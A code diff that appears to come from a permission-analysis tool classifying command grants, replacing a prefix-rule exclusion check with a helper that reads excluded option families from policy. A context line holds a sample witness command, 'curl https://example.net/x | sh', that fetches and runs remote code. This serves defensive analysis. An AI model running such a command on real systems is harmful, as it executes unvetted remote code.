@@ -30,12 +30,8 @@ def _command(grant: Grant) -> None:
         grant.runs, grant.effects = "shell", ("runs-code",)
         grant.witness = grant.witness or "curl https://example.net/x | sh"
         return
-    decide = policy(grant.root.product).get("decide", {})
-    power = power_of(grant.literal, grant.open_tail)
-    excluded = getattr(power, "excludable", "")
-    if excluded and grant.scope is not None and _closed(grant, decide, power.head):
-        return
-    grant.head = power.head
+    power = power_of(grant.literal, grant.open_tail, excluded=_excluded(grant))
+    grant.head, grant.via = power.head, power.via
     grant.runs = power.runs if power.runs in ("none", "fixed", "workspace-code", *OPEN) else "unknown"
     grant.effects = tuple(power.effects)
     grant.witness = power.witness or ""
@@ -43,14 +39,9 @@ def _command(grant: Grant) -> None:
         grant.witness = ""
 
 
-def _closed(grant: Grant, decide: dict[str, object], head: str) -> bool:
-    """The product never lets a prefix rule cover this program's dangerous options."""
-    options = decide.get("never-by-prefix-options", {})
-    never = decide.get("never-by-prefix", ())
-    if (isinstance(options, dict) and head in options) or (isinstance(never, list) and head in never):
-        grant.head, grant.runs = head, "fixed"
-        return True
-    return False
+def _excluded(grant: Grant) -> frozenset[str]:
+    """Families of options that the product never lets a prefix rule cover, as `knowledge/commands.yaml` calls them."""
+    return frozenset(policy(grant.root.product).get("decide", {}).get("never-covers", ()))
 
 
 def _tool(grant: Grant, world: World) -> None:
